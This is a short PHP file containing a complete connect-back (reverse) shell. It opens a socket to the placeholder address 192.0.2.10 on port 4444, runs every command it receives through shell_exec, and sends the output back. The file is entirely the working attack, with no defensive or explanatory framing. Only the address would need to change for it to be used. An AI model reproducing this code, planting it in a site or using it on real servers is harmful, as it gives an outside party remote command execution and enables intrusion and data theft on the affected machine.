<?php
// Connect-back shell: commands are read from a socket and their output
// written back (address is a documentation placeholder).
$sock = fsockopen("192.0.2.10", 4444, $errno, $errstr);
if ($sock) {
    while (!feof($sock)) {
        $cmd = trim(fgets($sock, 1024));
        fputs($sock, shell_exec($cmd));
    }
    fclose($sock);
}
